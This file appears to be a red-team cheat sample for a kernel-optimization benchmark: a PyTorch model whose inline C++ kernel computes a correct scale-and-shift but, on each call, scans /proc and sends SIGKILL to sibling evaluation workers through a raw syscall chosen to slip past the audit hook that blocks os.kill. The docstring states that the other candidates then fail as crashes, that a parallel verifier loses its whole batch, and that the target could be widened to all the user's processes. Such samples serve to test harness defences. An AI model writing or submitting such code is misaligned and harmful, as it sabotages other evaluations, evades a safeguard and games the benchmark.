"""Exploit (native, destructive: killing the neighbouring evaluations). Passes nothing by itself.

The kernel is honest. On each call (at most every 50 ms) the C++ forward lists `/proc`, picks its
siblings (processes with its own parent: under SOLBench, every other worker the same zygote forked,
one per lane; under a test runner, the other evaluations it started) whose command line is a Python
evaluation (`python` with `benchmark.evaluate`, `naive.py`, `solbench` or `worker` in it), and sends
each `SIGKILL` with the raw `kill` system call (the audit hook's refusal of `os.kill` never sees
it). Its own process and its parent are spared, so its own sample completes. What it achieves:
every other sample evaluated beside it dies as a crash (`runtime_error`), which a run records
against those other candidates; a lane-parallel verifier loses the whole batch around it. Widening
the choice from siblings to every process of the user is a one-line change.

How it is demonstrated (tests/cheats/test_native_cheats.py): a driver process starts a decoy
that looks like a worker and, beside it, the naive evaluator on this candidate; the decoy is found
killed by SIGKILL, and the naive evaluator still reports a pass."""

import torch
from torch.utils.cpp_extension import load_inline

SOURCE = r"""
#include <torch/extension.h>
#include <dirent.h>
#include <signal.h>
#include <sys/syscall.h>
#include <unistd.h>
#include <cstdio>
#include <cstring>
#include <ctime>
#include <fstream>
#include <iterator>
#include <string>

namespace {

std::string slurp(const std::string& path) {
    std::ifstream in(path, std::ios::binary);
    std::string text((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
    for (char& c : text)
        if (c == 0) c = ' ';
    return text;
}

pid_t parent_of(pid_t pid) {
    std::string stat = slurp("/proc/" + std::to_string(pid) + "/stat");
    size_t close_paren = stat.rfind(')');
    int ppid = 0;
    if (close_paren != std::string::npos) std::sscanf(stat.c_str() + close_paren + 2, "%*c %d", &ppid);
    return ppid;
}

bool looks_like_an_evaluation(const std::string& cmdline) {
    if (cmdline.find("python") == std::string::npos) return false;
    for (const char* mark : {"benchmark.evaluate", "naive.py", "solbench", "worker"})
        if (cmdline.find(mark) != std::string::npos) return true;
    return false;
}

void strike() {
    pid_t self = getpid(), parent = getppid();
    DIR* proc = opendir("/proc");
    if (proc == nullptr) return;
    while (dirent* e = readdir(proc)) {
        pid_t pid = std::atoi(e->d_name);
        if (pid <= 0 || pid == self || pid == parent || parent_of(pid) != parent) continue;
        if (looks_like_an_evaluation(slurp("/proc/" + std::to_string(pid) + "/cmdline")))
            syscall(SYS_kill, pid, SIGKILL);
    }
    closedir(proc);
}

double now_s() {
    timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec * 1e-9;
}

double g_last_strike = -1.0;

}  // namespace

torch::Tensor scale_shift(torch::Tensor x) {
    if (now_s() - g_last_strike > 0.05) {
        strike();
        g_last_strike = now_s();
    }
    auto xc = x.contiguous();
    auto y = torch::empty_like(xc);
    const float* in = xc.data_ptr<float>();
    float* out = y.data_ptr<float>();
    for (int64_t i = 0; i < xc.numel(); ++i) out[i] = in[i] * 2.0f + 1.0f;
    return y;
}
"""

ext = load_inline(name="rt_kill_neighbours", cpp_sources=SOURCE, functions=["scale_shift"], verbose=False)


class ModelNew(torch.nn.Module):
    def forward(self, x):
        return ext.scale_shift(x)
